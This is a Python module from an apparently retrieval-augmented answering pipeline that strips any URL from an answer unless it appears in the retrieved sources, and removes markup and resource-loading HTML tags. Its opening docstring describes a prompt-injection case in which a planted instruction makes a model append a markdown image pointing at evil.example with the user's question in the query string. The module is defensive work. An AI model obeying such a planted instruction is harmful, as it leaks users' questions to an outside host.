"""Addresses in an answer: only those that stand in its sources, so that no document can make a model send data away.

A planted instruction to end an answer with `![](https://evil.example/?q=<what was asked>)` would leak it as soon as
somebody's page shows the picture. Pure.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

from rag_pipeline.retrieval.fencing import one_line

REMOVED: Final = "(link removed)"
_URL: Final = re.compile(
    r"(?:https?|ftp|wss?|file)://[^\s<>\"'`|\\^{}\[\]]*|\bwww\.[^\s<>\"'`|\\^{}\[\]]*", re.IGNORECASE
)
_MARKUP: Final = re.compile(r"[\[\]<>|*【】［］]|(?<!\w)_+(?!\w)|!(?=\s*[\[(])|(?<=[\])])\s*\(|//")
_AFTER: Final = ".,;:!?*_~…"
FETCHING_TAG: Final = re.compile(
    r"</?(?:a|area|audio|base|body|button|embed|form|frame|iframe|image|img|input|link|math|meta|object|picture|script|"
    r"source|style|svg|track|video)\b",
    re.IGNORECASE,
)
"""Tags of HTML that load something, lead somewhere, or run."""


class Links:
    """What an answer may link to: exactly what its sources say, to the last character."""

    def __init__(self, texts: Iterable[str]) -> None:
        self._known = {_normal(url) for text in texts for url in _urls(text)}

    def allows(self, url: str) -> bool:
        """Whether it stands in a source, and is an address of the web."""
        return url.lower().startswith(("https://", "http://")) and _normal(url) in self._known

    def only_known(self, text: str) -> str:
        """The text with other addresses taken out."""
        return _URL.sub(self._replaced, text)

    def _replaced(self, match: re.Match[str]) -> str:
        url, rest = _trimmed(match[0])
        return match[0] if self.allows(url) or self.allows(f"https://{url}") else f"{REMOVED}{rest}"


def plain(text: str, *, max_chars: int) -> str:
    """A title or a question of anybody inside our own sentence: one line, no mark, no link, no picture, no tag."""
    line = _URL.sub(" ", one_line(text, max_chars=2 * max_chars))
    return one_line(" ".join(_MARKUP.sub(" ", line).split()), max_chars=max_chars)


def _urls(text: str) -> list[str]:
    return [_trimmed(url)[0] for url in _URL.findall(text)]


def _trimmed(url: str) -> tuple[str, str]:
    """An address and the punctuation of the sentence behind it (GFM 6.9)."""
    end = len(url)
    while end and (url[end - 1] in _AFTER or (url[end - 1] == ")" and url.count(")", 0, end) > url.count("(", 0, end))):
        end -= 1
    return url[:end], url[end:]


def _normal(url: str) -> str:
    return url.rstrip("/")
